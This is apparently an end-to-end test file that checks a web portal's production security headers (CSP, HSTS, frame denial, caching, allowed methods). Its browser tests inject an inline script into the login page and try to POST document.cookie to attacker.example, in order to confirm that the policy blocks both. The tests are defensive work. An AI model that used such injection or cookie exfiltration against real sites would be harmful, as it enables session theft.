/**
 * The production server's headers (docs/security.md, "Headers"): what nginx with the shipped configuration (or
 * `vite preview`, without nginx) sends, and a browser refusing what the policy forbids.
 */
import { existsSync } from 'node:fs';
import { request } from 'node:http';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { allowCspViolations, cspViolations } from './support/browser';
import { baseUrl, field, launchBrowser, newPage, sandboxUrl, STEP_TIMEOUT_MS } from './support';

const DIST = path.resolve(import.meta.dirname, '../../dist');

const get = (pathname: string, headers: Record<string, string> = {}) =>
  fetch(`${baseUrl()}${pathname}`, { headers: { Accept: 'text/html,*/*', ...headers }, redirect: 'manual' });

/** The entry bundle index.html loads (fetched by its link, run by public/shell.js): a hashed file under /assets/. */
async function entryScript(): Promise<string> {
  const html = await (await get('/auth/login')).text();
  const src = /<link rel="modulepreload"[^>]* href="(\/assets\/[^"]+\.js)" data-portico-entry>/.exec(html)?.[1];
  if (!src) throw new Error(`no entry script in index.html:\n${html}`);
  return src;
}

/**
 * The headers written out as docs/security.md states them, not computed by scripts/security-headers.ts: that module
 * is what `vite preview` sends, so comparing with it would compare the server with itself. The three API base URLs
 * are the sandbox's, one origin.
 */
const expectedHeaders = () => ({
  'content-security-policy': [
    "default-src 'self'",
    "script-src 'self'",
    "style-src 'self' 'unsafe-inline'",
    "img-src 'self' https: data:",
    `connect-src ${sandboxUrl()}`,
    "object-src 'none'",
    "base-uri 'none'",
    "form-action 'self'",
    "frame-ancestors 'none'",
  ].join('; '),
  'x-content-type-options': 'nosniff',
  'referrer-policy': 'no-referrer',
  'permissions-policy':
    'accelerometer=(), camera=(), display-capture=(), geolocation=(), gyroscope=(), magnetometer=(), microphone=(), payment=(), usb=()',
  'x-frame-options': 'DENY',
  'cross-origin-opener-policy': 'same-origin',
});
const HSTS = 'max-age=63072000; includeSubDomains';

// A portal already running (E2E_BASE_URL, e.g. the dev server) is not the production server these describe.
describe.runIf(inject('e2eServer') !== 'external')(`production server headers (${inject('e2eServer')})`, () => {
  it.each(['/auth/login', '/dashboard', '/administration/user/list'])(
    '%s is the single-page app with every security header, revalidated on each visit',
    async (route) => {
      const res = await get(route);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/html/);
      for (const [name, value] of Object.entries(expectedHeaders())) expect(res.headers.get(name), name).toBe(value);
      expect(res.headers.get('cache-control')).toBe('no-cache');
      // Over plain http there is no HSTS (a browser would ignore it); behind a TLS-terminating proxy there is.
      expect(res.headers.get('strict-transport-security')).toBeNull();
      const proxied = await get(route, { 'X-Forwarded-Proto': 'https' });
      expect(proxied.headers.get('strict-transport-security')).toBe(HSTS);
    },
  );

  it('caches hashed bundles for a year and config.js never; a missing bundle is a 404, not the app', async () => {
    const script = await get(await entryScript());
    expect(script.status).toBe(200);
    expect(script.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(script.headers.get('x-content-type-options')).toBe('nosniff');

    // The shell's script holds up the first paint: a hashed copy, so a later visit does not ask the server again.
    const html = await (await get('/dashboard')).text();
    const shellSrc = /<script src="(\/assets\/shell-[\w-]+\.js)"><\/script>/.exec(html)?.[1];
    expect(shellSrc, html).toBeDefined();
    const shell = await get(shellSrc!);
    expect(shell.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(await shell.text()).toContain('data-shell');
    expect((await get('/shell.js')).headers.get('content-type')).toMatch(/^text\/html/);

    const config = await get('/config.js');
    expect(config.status).toBe(200);
    expect(config.headers.get('content-type')).toMatch(/javascript/);
    expect(config.headers.get('cache-control')).toBe('no-store');

    const missing = await get('/assets/index-00000000.js');
    expect(missing.status).toBe(404);
    expect(missing.headers.get('cache-control')).toBeNull();
  });

  it('does not serve the source maps the build keeps, nor the build manifest', async () => {
    const script = await entryScript();
    expect(existsSync(path.join(DIST, `${script}.map`)), 'the build writes hidden source maps').toBe(true);
    expect((await get(`${script}.map`)).status).toBe(404);
    expect(existsSync(path.join(DIST, '.vite', 'manifest.json'))).toBe(true);
    expect((await get('/.vite/manifest.json')).status).toBe(404);
    const bundle = await (await get(script)).text();
    expect(bundle).not.toContain('sourceMappingURL');
  });

  it('answers GET and HEAD only (no TRACE, no writes to the site) and lists no directory', async () => {
    // fetch() refuses to send TRACE itself, so ask with node's http client as any tool on the network could.
    const status = (method: string, pathname: string) =>
      new Promise<number>((resolve, reject) => {
        const req = request(`${baseUrl()}${pathname}`, { method }, (res) => {
          res.resume();
          resolve(res.statusCode ?? 0);
        });
        req.on('error', reject);
        req.end();
      });
    for (const method of ['TRACE', 'OPTIONS', 'POST', 'PUT', 'DELETE']) expect(await status(method, '/auth/login'), method).toBe(405);
    expect(await status('HEAD', '/auth/login')).toBe(200);
    for (const directory of ['/assets/', '/.vite/']) {
      const res = await get(directory);
      expect(res.status, directory).toBe(404);
      expect(await res.text(), directory).not.toMatch(/Index of|\.js"/);
    }
  });

  it('serves the default logo as an image', async () => {
    const res = await get('/logo.svg');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^image\/svg\+xml/);
  });

  describe('in the browser', () => {
    let browser: Browser;
    beforeAll(async () => {
      browser = await launchBrowser();
    });
    afterAll(async () => {
      await browser?.close();
    });

    it('refuses a script injected into the page and a connection outside the three APIs; the portal still works', async () => {
      const page = await newPage(browser);
      allowCspViolations(page);
      // The real response, headers included, with an attacker's inline script added to the document.
      await page.route('**/auth/login', async (route) => {
        const response = await route.fetch();
        const body = (await response.text()).replace('</head>', '<script>window.__injected = true;</script></head>');
        await route.fulfill({ response, body });
      });
      await page.goto('/auth/login');
      await field(page, 'Email').waitFor();

      expect(await page.evaluate(() => (window as { __injected?: boolean }).__injected)).toBeUndefined();
      await expect
        .poll(() => cspViolations(page).filter((v) => v.startsWith('script-src-elem refused inline')), { timeout: STEP_TIMEOUT_MS })
        .toHaveLength(1);

      const exfiltration = await page.evaluate(() =>
        fetch('https://attacker.example/collect', { method: 'POST', body: document.cookie }).then(
          () => 'sent',
          () => 'refused',
        ),
      );
      expect(exfiltration).toBe('refused');
      await expect
        .poll(() => cspViolations(page).some((v) => v.startsWith('connect-src refused https://attacker.example/collect')), {
          timeout: STEP_TIMEOUT_MS,
        })
        .toBe(true);
    });

    it('cannot be framed by another page', async () => {
      const page = await newPage(browser);
      allowCspViolations(page);
      await page.setContent(`<iframe title="portal" src="${baseUrl()}/auth/login"></iframe>`);
      await expect.poll(() => cspViolations(page).some((v) => /frame-ancestors/.test(v)), { timeout: STEP_TIMEOUT_MS }).toBe(true);
      // Chrome puts its error page in the frame instead of the portal.
      const frame = page.frames().find((f) => f !== page.mainFrame());
      expect(frame?.url()).not.toContain(baseUrl());
      expect(await frame?.locator('#root').count()).toBe(0);
    });
  });
});
